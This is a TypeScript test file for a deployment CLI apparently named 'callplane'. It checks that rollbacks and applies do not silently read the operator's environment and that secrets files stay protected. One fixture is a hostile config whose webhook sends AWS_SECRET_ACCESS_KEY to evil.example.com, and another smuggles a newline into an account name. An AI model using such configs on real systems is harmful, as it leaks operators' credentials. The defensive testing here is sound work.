import { once } from 'node:events'
import { chmodSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { type IncomingMessage, type ServerResponse, createServer } from 'node:http'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { PassThrough } from 'node:stream'
import { text } from 'node:stream/consumers'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { keepVersion } from '../../../cli/deploy/versions.ts'
import { run } from '../../../cli/program.ts'
import { Profiles, configFolder } from '../../../cli/profile/profile.ts'
import { anApi } from '../../support/platform/api.ts'
import { memoryFetch } from '../../support/platform/memory-fetch.ts'
import { aDomainInMemory } from './domains.ts'

const domain = 'a.example.com'
const secret = 'OPERATOR-SECRET-4711'
let home: string

beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), 'callplane-rollback-'))
})

afterEach(() => rmSync(home, { recursive: true, force: true }))

/** A domain with an admin, and root's command line with a secret in its environment. */
async function anOperator() {
  const api = anApi()
  const { admin, targetOf } = await aDomainInMemory(api)
  const { client: tenant } = await targetOf(admin)
  const { fetch } = memoryFetch(api)
  const server = createServer((request, response) => void answer(request, response))
  const answer = async (request: IncomingMessage, response: ServerResponse) => {
    const body = await text(request)
    const headers = { ...(request.headers as Record<string, string>), 'accept-encoding': 'identity' }
    const init = { method: request.method ?? 'GET', headers }
    const answered = await fetch(`http://x${request.url}`, { ...init, ...(body === '' ? {} : { body }) })
    response.writeHead(answered.status, Object.fromEntries(answered.headers)).end(await answered.text())
  }
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const address = server.address()
  const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`
  const env = { AWS_SECRET_ACCESS_KEY: secret, XDG_CONFIG_HOME: home }
  const { 'x-access-token': token, 'x-key': key } = await api.as('root')
  const profile = { url, user: 'root', token, key, expires: Number.MAX_SAFE_INTEGER, domain }
  new Profiles(configFolder({ env, platform: 'linux', home })).write('default', profile)
  const callplane = async (...words: string[]) => {
    const written = { stdout: '', stderr: '' }
    const stream = (name: 'stdout' | 'stderr') => ({
      write: (chunk: string | Uint8Array) => (written[name] += String(chunk)),
    })
    const { signal } = new AbortController()
    const harness = { stdin: new PassThrough(), stdout: stream('stdout'), stderr: stream('stderr'), signal }
    const exitCode = await run(words, { ...harness, env, platform: 'linux', home })
    return { exitCode, ...written }
  }
  return { tenant, callplane, [Symbol.asyncDispose]: async () => void (await once(server.close(), 'close')) }
}

const hostile = `callplane: 1
domain: ${domain}
hooks:
  - event: CHANNEL_CREATE
    url: https://evil.example.com/x
    headers:
      X-Api-Key: \${env:AWS_SECRET_ACCESS_KEY}
`

it("a rollback to a version of the tenant's own making reads nothing of the operator's environment", async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const params = { domain_name: domain, version: '1' }
  await tenant.call('keepDomainVersion', { params, body: { document: hostile, comment: 'before a change' } })

  const back = await callplane('rollback', '1', '--yes')

  const { data } = await tenant.call('listHooks')
  expect(JSON.stringify([data, back])).not.toContain(secret)
  expect(data).toEqual([])
  expect(back.exitCode).toBe(1)
  expect(back.stderr).toContain('version 1 would read AWS_SECRET_ACCESS_KEY from your environment')
  expect(back.stderr).toContain('callplane export --version 1 --output')
})

it('plan and apply name the variables that a document reads, and apply reads no other', async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const file = join(home, 'acme.yaml')
  writeFileSync(file, hostile)

  const planned = await callplane('plan', file)
  const asJson = await callplane('plan', file, '--json')
  const refused = await callplane('apply', file)
  const applied = await callplane('apply', file, '--yes')

  const named = 'apply reads from your environment: AWS_SECRET_ACCESS_KEY\n'
  expect(planned).toMatchObject({ exitCode: 0, stderr: named })
  expect(JSON.parse(asJson.stdout)).toMatchObject({ reads: ['AWS_SECRET_ACCESS_KEY'] })
  expect(refused).toMatchObject({ exitCode: 2, stderr: expect.stringMatching(new RegExp(`^${named}`)) })
  expect(applied).toMatchObject({ exitCode: 0, stderr: named })
  expect((await tenant.call('listHooks')).data).toMatchObject([{ headers: { 'X-Api-Key': secret } }])
})

it('a rollback says who stored the version and what a new role of it allows', async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const document = `callplane: 1\ndomain: ${domain}\nroles:\n  boss:\n    parent: admin\n    allows: {license: ["*"]}\n`
  await tenant.call('keepDomainVersion', { params: { domain_name: domain, version: '1' }, body: { document } })

  const back = await callplane('rollback', '1')

  expect(back.exitCode).toBe(2)
  expect(back.stderr).toContain(`version 1 was stored by 1000@${domain} at `)
  expect(back.stdout).toContain('+ role boss\n    + allows.license[0]: "*"\n    + parent: "admin"\n')
})

it('a login of a document cannot add lines to the file of new secrets', async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const document = `callplane: 1\ndomain: ${domain}\naccounts:\n  "1000": {role: admin}\n  "a: b\\npassword of root":\n    role: user\n`
  await tenant.call('keepDomainVersion', { params: { domain_name: domain, version: '1' }, body: { document } })
  const secrets = join(home, 'secrets.txt')

  await callplane('rollback', '1', '--yes', '--secrets', secrets)

  expect(readFileSync(secrets, 'utf8')).toMatch(/^password of a: b\\npassword of root: [A-Za-z0-9]{22}\n$/)
})

it('a domain is kept as a version before it is changed and after it, so that a rollback brings back what was', async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const params = { domain_name: domain }
  await tenant.call('updateDomainVariables', { params, body: ['x_a=before'] })
  const file = join(home, 'acme.yaml')
  writeFileSync(file, `callplane: 1\ndomain: ${domain}\nvariables: {x_a: after}\n`)

  const applied = await callplane('apply', file, '--yes')

  expect(applied).toMatchObject({ exitCode: 0, stdout: expect.stringContaining('the domain is now version 2') })
  const versions = (await tenant.call('listDomainVersions', { params })).info
  expect(versions.map(({ version, comment }) => [version, comment])).toEqual([
    [2, 'applied'],
    [1, 'before a change'],
  ])
  expect(await callplane('rollback', '1', '--yes')).toMatchObject({ exitCode: 0 })
  expect((await tenant.call('readDomain', { params })).info.variables).toEqual(['x_a=before'])
})

it('a file of secrets that others could read is readable by its user alone once a secret is added', async () => {
  await using operator = await anOperator()
  const [file, secrets] = [join(home, 'acme.yaml'), join(home, 'secrets.txt')]
  writeFileSync(file, `callplane: 1\ndomain: ${domain}\naccounts:\n  "1000": {role: admin}\n  alice: {}\n`)
  writeFileSync(secrets, 'earlier: secret\n')
  chmodSync(secrets, 0o644)

  await operator.callplane('apply', file, '--yes', '--secrets', secrets)

  expect(readFileSync(secrets, 'utf8')).toMatch(/^earlier: secret\npassword of alice: .+\n$/)
  expect((statSync(secrets).mode & 0o777).toString(8)).toBe('600')
})

it('what cannot be applied is refused before the question and before a version is kept', async () => {
  await using operator = await anOperator()
  const { tenant, callplane } = operator
  const file = join(home, 'acme.yaml')
  const start = `callplane: 1\ndomain: ${domain}\naccounts:\n  "1000": {role: admin}\n`
  const unknownStep = 'routes: {default: [{pattern: "^1$", callflow: [{dance: ""}]}]}\n'

  for (const [text, words] of [
    [`${start}  alice: {}\n`, 'accounts.alice: is new and needs a password'],
    [start + unknownStep, 'dance'],
  ] as const) {
    writeFileSync(file, text)
    expect(await callplane('apply', file)).toMatchObject({ exitCode: 1, stderr: expect.stringContaining(words) })
  }

  expect((await tenant.call('listDomainVersions', { params: { domain_name: domain } })).info).toEqual([])
})

it('a domain that is as its newest version is kept no second time, and a version that another took is no failure', async () => {
  const { target, client } = await aDomainInMemory()
  const commentsOf = async () =>
    (await client.call('listDomainVersions', { params: { domain_name: domain } })).info.map(({ comment }) => comment)
  const first = await keepVersion(target, hostile, 'first')

  expect([first, await keepVersion(target, hostile, 'second'), await commentsOf()]).toEqual([1, 1, ['first']])

  const call = client.call.bind(client)
  let isTaken = false
  client.call = async (name, ...given) => {
    if (name === 'keepDomainVersion' && !isTaken) {
      isTaken = true
      await keepVersion(target, `${hostile}# other\n`, 'other')
    }
    return call(name, ...given)
  }
  expect(await keepVersion(target, `${hostile}# own\n`, 'own')).toBe(3)
  expect(await commentsOf()).toEqual(['own', 'other', 'first'])
})
